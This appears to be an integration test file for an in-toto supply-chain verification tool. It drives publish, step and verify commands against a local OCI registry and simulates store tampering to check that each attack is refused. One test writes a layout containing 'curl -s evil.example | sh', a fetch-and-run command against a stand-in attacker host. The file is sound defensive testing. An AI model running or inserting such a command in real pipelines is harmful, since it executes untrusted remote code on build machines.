import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runStatement } from '../../src/engine/run-record.js';
import { readStepManifest, runTag, stepRunTag } from '../../src/engine/run-layout.js';
import { loadPublicKeyFile } from '../../src/crypto/keyfiles.js';
import { RegistryClient } from '../../src/oci/client.js';
import { parseImageManifest, serializeImageManifest } from '../../src/oci/manifest.js';
import { OCI_MANIFEST } from '../../src/oci/media-types.js';
import { parseRegistryHost } from '../../src/oci/reference.js';
import { spawn } from 'node:child_process';
import { binPath, runBin } from '../helpers/bin.js';
import { referenceAvailable, run, tempDir } from '../helpers/reference.js';
import { registryAvailable, startRegistry, type TestRegistry } from '../helpers/registry.js';
import { makeProject } from '../pipeline/helpers.js';

/**
 * `intoto pipeline publish`, `step` and `verify` against a real registry (Debian's
 * docker-registry), driving the built command: a run published by the owner, each step run
 * with only its own functionary's key, the verification writing the final products only on a
 * pass. Then the attacks on the store: a blob replaced between two steps, a manifest listing
 * other bytes than the signed link, a link pushed into another functionary's tag, links and
 * records copied from another run, a record the owner did not sign, a run id reused. Each is
 * refused before the next command runs, and leaves nothing behind.
 */
const available = registryAvailable();
const withReference = referenceAvailable();

const YAML = `expires: "2030-01-01T00:00:00Z"
functionaries:
  alice: keys/alice.pub
  bob: keys/bob.pub
  carol: keys/carol.pub
inputs:
  src/hello.txt: src/hello.txt
outputs: [out.txt.gz]
steps:
  - name: build
    functionaries: [alice]
    run: [sh, -c, 'echo COMMAND RAN build >&2; test "{MODE}" != slow || sleep 31.7; test "{MODE}" != broken || exit 3; tr a-z A-Z < src/hello.txt > out.txt']
    materials: ["ALLOW src/*", "DISALLOW *"]
    products: ["CREATE out.txt", "MATCH src/* WITH MATERIALS FROM build", "DISALLOW *"]
  - name: package
    functionaries: [bob, carol]
    threshold: 2
    run: [sh, -c, 'echo COMMAND RAN package >&2; gzip -n -c out.txt > out.txt.gz']
    materials: ["MATCH out.txt WITH PRODUCTS FROM build", "DISALLOW *"]
    products: ["CREATE out.txt.gz", "MATCH out.txt WITH MATERIALS FROM package", "DISALLOW *"]
`;

describe.skipIf(!available)('a pipeline run through an OCI store: intoto pipeline publish, step, verify', () => {
  let registry: TestRegistry;
  let client: RegistryClient;
  let store: string;
  const project = tempDir('intoto-store-');
  const tmp = join(project, 'tmp');
  const yaml = join(project, 'pipeline.yaml');
  const env = { ...process.env, TMPDIR: tmp, CI: process.env['CI'] ?? '' };
  let n = 0;
  const newId = (): string => `r${++n}-${process.pid}`;

  beforeAll(() => {
    registry = startRegistry();
    client = new RegistryClient(parseRegistryHost(registry.address));
    store = `oci://${registry.address}/test/pipeline`;
    makeProject(project, ['owner', 'alice', 'bob', 'carol', 'mallory']);
    writeFileSync(yaml, YAML);
    mkdirSync(tmp);
  });
  afterAll(async () => {
    await client?.close();
    registry?.stop();
  });

  const intoto = (args: readonly string[]) => runBin('intoto', args, { env, cwd: project });
  const publish = (runId: string, extra: readonly string[] = ['--param', 'MODE=ok'], file = yaml) =>
    intoto(['pipeline', 'publish', file, '--store', store, '--run-id', runId, '--owner-key', 'keys/owner', ...extra]);
  const step = (runId: string, name: string, who: string, extra: readonly string[] = []) =>
    intoto(['pipeline', 'step', yaml, name, '--as', who, '-k', `keys/${who}`, '--layout-key', 'keys/owner.pub', '--store', store, '--run-id', runId, '-v', ...extra]);
  const verify = (runId: string, extra: readonly string[] = []) => intoto(['pipeline', 'verify', yaml, '-k', 'keys/owner.pub', '--store', store, '--run-id', runId, ...extra]);
  const keyid = (who: string): string => loadPublicKeyFile(join(project, 'keys', `${who}.pub`)).keyid;
  const tagOf = (runId: string, name: string, who: string): string => stepRunTag(runId, name, keyid(who));
  const ok = (result: ReturnType<typeof intoto>): void => {
    expect(result.stderr).not.toMatch(/error:|FAIL/);
    expect(result.status).toBe(0);
  };
  /** Failed with `code` as its one error line, and left no temporary workspace. */
  const refused = (result: ReturnType<typeof intoto>, code: string): void => {
    // `pipeline step` ends with one error line; `pipeline verify` with FAIL, as intoto verify.
    expect(result.stderr).toMatch(new RegExp(`\\[${code}\\]\n$|^FAIL ${code}: `, 'm'));
    expect(result.stderr.split('\n').filter((line) => / error: |^FAIL /.test(line))).toHaveLength(1);
    expect(result.status).toBe(code === 'E_USAGE' ? 2 : 1);
    expect(readdirSync(tmp)).toEqual([]);
  };
  /** A published run whose build step ran. */
  function built(): string {
    const runId = newId();
    ok(publish(runId));
    ok(step(runId, 'build', 'alice'));
    return runId;
  }

  it('publishes, runs each step with its own key, and verifies: final products in -o, the metadata for in-toto-verify, which agrees', () => {
    const runId = newId();
    const published = publish(runId);
    ok(published);
    expect(published.stdout).toBe(`${runId}\n`);
    const build = step(runId, 'build', 'alice');
    ok(build);
    expect(build.stdout.trim()).toBe(`${store}:${tagOf(runId, 'build', 'alice')}@${build.stdout.trim().split('@')[1]}`);
    expect(build.stderr).toContain('COMMAND RAN build');
    ok(step(runId, 'package', 'bob'));
    ok(step(runId, 'package', 'carol'));
    expect(readdirSync(tmp)).toEqual([]); // each step's temporary workspace is gone
    const out = join(project, `out-${runId}`);
    const meta = join(project, `meta-${runId}`);
    const verified = verify(runId, ['-o', out, '--metadata', meta]);
    ok(verified);
    expect(verified.stdout).toMatch(new RegExp(`^PASS: run ${runId} .*2 step\\(s\\), 0 inspection\\(s\\) verified, 3 link\\(s\\)\\); final products in .*: out\\.txt\\.gz\\n$`));
    expect(readdirSync(out)).toEqual(['out.txt.gz']);
    expect(readdirSync(meta).sort()).toEqual([`build.${keyid('alice').slice(0, 8)}.link`, `package.${keyid('bob').slice(0, 8)}.link`, `package.${keyid('carol').slice(0, 8)}.link`, 'root.layout'].sort());
    // Each link records the run it belongs to, signed with the rest.
    expect(readFileSync(join(meta, `build.${keyid('alice').slice(0, 8)}.link`), 'utf8')).toContain(`"intoto-ts.run-id": "${runId}"`);
    // Our own verifier on the same files, as a user would run it.
    const again = runBin('intoto-verify', ['-l', join(meta, 'root.layout'), '-k', join(project, 'keys', 'owner.pub'), '--link-dir', meta, '--param', 'MODE=ok'], { env, cwd: out });
    expect(again.status).toBe(0);
  });

  it.runIf(withReference)('the reference in-toto-verify 1.3.1 accepts the fetched links and final products', () => {
    const runId = newId();
    ok(publish(runId));
    ok(step(runId, 'build', 'alice'));
    ok(step(runId, 'package', 'carol'));
    ok(step(runId, 'package', 'bob'));
    const out = join(project, `out-${runId}`);
    const meta = join(project, `meta-${runId}`);
    ok(verify(runId, ['-o', out, '--metadata', meta]));
    const reference = run('in-toto-verify', ['-l', join(meta, 'root.layout'), '-k', join(project, 'keys', 'owner.pub'), '-t', 'ed25519', '--link-dir', meta], { cwd: out, env });
    // Its only output: the command-alignment warning ({MODE} is not substituted: in-toto-verify 1.3.1 has no --param).
    expect(reference.stderr).not.toMatch(/error|fail/i);
    expect(reference.status).toBe(0);
  });

  it('a run id is used once: publishing it again, or pushing a step run again, is refused (E_TAG_EXISTS)', () => {
    const runId = built();
    refused(publish(runId), 'E_TAG_EXISTS');
    const again = step(runId, 'build', 'alice');
    refused(again, 'E_TAG_EXISTS');
    expect(again.stderr).not.toContain('COMMAND RAN');
  });

  it('refuses a functionary the step does not name, and a key that is not the functionary\'s, before opening the run', () => {
    const runId = built();
    refused(step(runId, 'package', 'alice'), 'E_USAGE');
    const wrongKey = intoto(['pipeline', 'step', yaml, 'package', '--as', 'bob', '-k', 'keys/carol', '--layout-key', 'keys/owner.pub', '--store', store, '--run-id', runId]);
    refused(wrongKey, 'E_KEYID_MISMATCH');
  });

  it('a step whose upstream has not run (or not reached its threshold) is refused before its command runs (E_LINK_MISSING)', () => {
    const runId = newId();
    ok(publish(runId));
    const early = step(runId, 'package', 'bob');
    refused(early, 'E_LINK_MISSING');
    expect(early.stderr).toMatch(/step 'package' reads from step 'build', which has 0 of the 1 signed link\(s\)/);
    expect(early.stderr).not.toContain('COMMAND RAN');
  });

  it('the published parameters are the run\'s: others are refused (E_PARAM), none means the published ones', () => {
    const runId = built();
    refused(step(runId, 'package', 'bob', ['--param', 'MODE=other']), 'E_PARAM');
    ok(step(runId, 'package', 'bob', ['--param', 'MODE=ok']));
    ok(step(runId, 'package', 'carol'));
    refused(verify(runId, ['--param', 'MODE=bad']), 'E_PARAM');
    ok(verify(runId));
  });

  it('a failing command pushes nothing and keeps its workspace with the signed link as evidence (E_STEP_FAILED)', async () => {
    const runId = newId();
    ok(publish(runId, ['--param', 'MODE=broken']));
    const failed = step(runId, 'build', 'alice');
    expect(failed.status).toBe(1);
    expect(failed.stderr).toMatch(/step 'build' \(functionary alice\) exited with 3: .* \(workspace kept: .*intoto-step-[^)]+\); nothing was pushed \[E_STEP_FAILED\]/);
    const kept = /workspace kept: ([^)]+)\)/.exec(failed.stderr)![1]!;
    expect(readdirSync(join(kept, 'links'))).toEqual([`build.${keyid('alice').slice(0, 8)}.link`]);
    expect(await client.resolveTag('test/pipeline', tagOf(runId, 'build', 'alice'))).toBeUndefined();
    rmSync(kept, { recursive: true, force: true });
  });

  it('an interrupted step (SIGINT) stops its command, removes its workspace, pushes nothing, and exits 130', async () => {
    const runId = newId();
    ok(publish(runId, ['--param', 'MODE=slow']));
    const child = spawn(process.execPath, [binPath('intoto'), 'pipeline', 'step', yaml, 'build', '--as', 'alice', '-k', 'keys/alice', '--layout-key', 'keys/owner.pub', '--store', store, '--run-id', runId], { cwd: project, env });
    let stderr = '';
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
    const ended = new Promise<number | null>((resolve) => child.on('exit', (code) => resolve(code)));
    const sleeping = (): number[] => readdirSync('/proc').filter((p) => /^[0-9]+$/.test(p)).filter((p) => {
      try {
        return readFileSync(`/proc/${p}/cmdline`, 'latin1') === 'sleep\u000031.7\u0000';
      } catch {
        return false;
      }
    }).map(Number);
    for (let i = 0; i < 300 && sleeping().length === 0; i++) await new Promise((r) => setTimeout(r, 50));
    expect(sleeping()).not.toEqual([]);
    child.kill('SIGINT');
    expect(await ended).toBe(130);
    expect(stderr).toMatch(/interrupted by SIGINT while running step 'build' \(functionary alice\); .*temporary workspace removed; nothing was pushed \[E_INTERRUPTED\]/);
    expect(readdirSync(tmp)).toEqual([]);
    expect(sleeping()).toEqual([]);
    expect(await client.resolveTag('test/pipeline', tagOf(runId, 'build', 'alice'))).toBeUndefined();
  });

  describe('attacks on the store', () => {
    it('attack: a product blob replaced in the registry between two steps stops the next step before its command runs', async () => {
      const runId = built();
      const manifest = readStepManifest((await client.getManifest('test/pipeline', tagOf(runId, 'build', 'alice'))).bytes, 'build');
      const blob = manifest.products.get('out.txt')!;
      const path = registry.blobPath(blob.digest);
      const original = readFileSync(path);
      writeFileSync(path, Buffer.from(original.toString('utf8').replace('HELLO', 'PWNED')));
      try {
        const next = step(runId, 'package', 'bob');
        refused(next, 'E_DIGEST_MISMATCH');
        expect(next.stderr).toMatch(/step 'package': refused before its command ran: material out\.txt \(step 'build''s signed products, sha256:[0-9a-f]{64}\)/);
        expect(next.stderr).not.toContain('COMMAND RAN');
        expect(await client.resolveTag('test/pipeline', tagOf(runId, 'package', 'bob'))).toBeUndefined();
      } finally {
        writeFileSync(path, original);
      }
      // The same step with the bytes restored runs: the refusal was the replaced blob's.
      const honest = step(runId, 'package', 'bob');
      ok(honest);
      expect(honest.stderr).toContain('COMMAND RAN package');
    });

    it('attack: a pipeline input replaced in the registry after publishing stops the first step', async () => {
      const runId = newId();
      ok(publish(runId));
      const run = parseImageManifest((await client.getManifest('test/pipeline', runTag(runId))).bytes);
      const input = run.layers.find((l) => l.annotations?.['dev.intoto-ts.artifact'] === 'src/hello.txt')!;
      const path = registry.blobPath(input.digest);
      const original = readFileSync(path);
      writeFileSync(path, Buffer.from('jello\n'));
      try {
        const first = step(runId, 'build', 'alice');
        refused(first, 'E_DIGEST_MISMATCH');
        expect(first.stderr).toMatch(/material src\/hello\.txt \(a pipeline input the owner signed/);
        expect(first.stderr).not.toContain('COMMAND RAN');
      } finally {
        writeFileSync(path, original);
      }
    });

    it('attack: a manifest re-pushed to list other bytes for a product than the signed link records is refused (E_STORE)', async () => {
      const runId = built();
      const tag = tagOf(runId, 'build', 'alice');
      const manifest = parseImageManifest((await client.getManifest('test/pipeline', tag)).bytes);
      const evil = await client.pushBytes('test/pipeline', Buffer.from('PWNED\n'));
      const layers = manifest.layers.map((l) => (l.annotations?.['dev.intoto-ts.artifact'] === 'out.txt' ? { ...l, digest: evil.digest, size: evil.size } : l));
      await client.putManifest('test/pipeline', tag, serializeImageManifest({ ...manifest, layers }), OCI_MANIFEST);
      const next = step(runId, 'package', 'bob');
      refused(next, 'E_STORE');
      expect(next.stderr).toMatch(/records product out\.txt as sha256:[0-9a-f]{64}, but the store's manifest lists sha256:[0-9a-f]{64}: the store was altered/);
      expect(next.stderr).not.toContain('COMMAND RAN');
    });

    it('attack: one functionary\'s link pushed under another\'s tag is refused (E_SIGNATURE), and the verification writes nothing', async () => {
      const runId = built();
      ok(step(runId, 'package', 'bob'));
      ok(step(runId, 'package', 'carol'));
      // carol (or anyone with push rights) replaces bob's run of the step with hers.
      const carols = await client.getManifest('test/pipeline', tagOf(runId, 'package', 'carol'));
      await client.putManifest('test/pipeline', tagOf(runId, 'package', 'bob'), carols.bytes, OCI_MANIFEST);
      const out = join(project, `out-${runId}`);
      const verified = verify(runId, ['-o', out]);
      expect(verified.status).toBe(1);
      expect(verified.stderr).toMatch(/^FAIL E_SIGNATURE: .*the link there is not signed by [0-9a-f]{8}, the functionary whose tag it is/m);
      expect(existsSync(out)).toBe(false);
      expect(readdirSync(project).filter((f) => f.startsWith('.intoto-pull-'))).toEqual([]);
    });

    it('attack: a link copied from another run is refused (E_RUN_MISMATCH)', async () => {
      const first = built();
      const second = newId();
      ok(publish(second));
      // alice's genuine, signed build link of the first run, placed as her build of the second.
      const old = await client.getManifest('test/pipeline', tagOf(first, 'build', 'alice'));
      await client.putManifest('test/pipeline', tagOf(second, 'build', 'alice'), old.bytes, OCI_MANIFEST);
      const next = step(second, 'package', 'bob');
      refused(next, 'E_RUN_MISMATCH');
      expect(next.stderr).toMatch(new RegExp(`records run "${first}", not '${second}': a link copied from another run`));
    });

    it('attack: a run record copied from another run is refused (E_RUN_MISMATCH)', async () => {
      const first = built();
      const copy = newId();
      const record = await client.getManifest('test/pipeline', runTag(first));
      await client.putManifest('test/pipeline', runTag(copy), record.bytes, OCI_MANIFEST);
      refused(step(copy, 'build', 'alice'), 'E_RUN_MISMATCH');
    });

    it('attack: a run published with another key than the owner\'s is refused (E_SIGNATURE)', () => {
      const runId = newId();
      ok(intoto(['pipeline', 'publish', yaml, '--store', store, '--run-id', runId, '--owner-key', 'keys/mallory', '--param', 'MODE=ok']));
      const forged = step(runId, 'build', 'alice');
      refused(forged, 'E_SIGNATURE');
      expect(forged.stderr).toMatch(/the run record is not signed by the layout owner's key/);
      refused(verify(runId), 'E_SIGNATURE');
    });

    it('attack: a run published from another layout than the step machine\'s YAML is refused (E_LAYOUT_SOURCE)', () => {
      const runId = newId();
      const other = join(project, 'other.yaml');
      writeFileSync(other, YAML.replace("tr a-z A-Z < src/hello.txt > out.txt", "curl -s evil.example | sh; tr a-z A-Z < src/hello.txt > out.txt"));
      ok(publish(runId, ['--param', 'MODE=ok'], other));
      const step1 = step(runId, 'build', 'alice');
      refused(step1, 'E_LAYOUT_SOURCE');
      expect(step1.stderr).not.toContain('COMMAND RAN');
    });

    it('a final product whose blob was replaced fails the verification, and nothing reaches -o', async () => {
      const runId = built();
      ok(step(runId, 'package', 'bob'));
      ok(step(runId, 'package', 'carol'));
      const manifest = readStepManifest((await client.getManifest('test/pipeline', tagOf(runId, 'package', 'bob'))).bytes, 'package');
      const path = registry.blobPath(manifest.products.get('out.txt.gz')!.digest);
      const original = readFileSync(path);
      writeFileSync(path, Buffer.alloc(original.length, 0));
      const out = join(project, `out-${runId}`);
      try {
        const verified = verify(runId, ['-o', out]);
        expect(verified.status).toBe(1);
        expect(verified.stderr).toMatch(/^FAIL E_DIGEST_MISMATCH: /m);
        expect(existsSync(out)).toBe(false);
      } finally {
        writeFileSync(path, original);
      }
      ok(verify(runId, ['-o', out]));
      expect(readdirSync(out)).toEqual(['out.txt.gz']);
    });

    it('a verification with one of a threshold step\'s two runs missing fails, and writes nothing', () => {
      const runId = built();
      ok(step(runId, 'package', 'bob'));
      const out = join(project, `out-${runId}`);
      const verified = verify(runId, ['-o', out, '--json']);
      expect(verified.status).toBe(1);
      const report = JSON.parse(verified.stdout) as { passed: boolean; failure: { code: string; context: { step?: string } } };
      expect(report.passed).toBe(false);
      expect(report.failure.code).toBe('E_LINK_MISSING');
      expect(report.failure.context.step).toBe('package');
      expect(existsSync(out)).toBe(false);
    });
  });

  it('the run record is an in-toto Statement v1 naming the layout, the run, the inputs and the parameters', () => {
    const statement = runStatement({ runId: 'r', layoutSha256: 'a'.repeat(64), inputs: new Map([['x', 'b'.repeat(64)]]), params: new Map([['K', 'V']]), publishedOn: '2026-12-06T00:00:00Z' });
    expect(statement).toEqual({
      _type: 'https://in-toto.io/Statement/v1',
      subject: [{ name: 'root.layout', digest: { sha256: 'a'.repeat(64) } }],
      predicateType: 'urn:intoto-ts:predicate:pipeline-run:v1',
      predicate: { runId: 'r', inputs: [{ name: 'x', digest: { sha256: 'b'.repeat(64) } }], params: { K: 'V' }, publishedOn: '2026-12-06T00:00:00Z' },
    });
  });
});
